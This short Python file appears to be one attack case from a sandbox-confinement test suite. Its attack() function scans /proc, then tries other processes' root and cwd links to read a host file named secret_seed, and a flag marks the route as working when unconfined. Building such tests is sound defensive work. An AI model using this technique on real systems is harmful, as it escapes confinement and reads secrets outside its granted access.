"""Reach files of the host through the root and the working folder of other processes."""

import os

WORKS_UNCONFINED = True


def attack(bait):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for way in ("root", "cwd"):
            try:
                return open(f"/proc/{pid}/{way}{bait['course']}/secret_seed").read()
            except OSError:
                pass
    return None
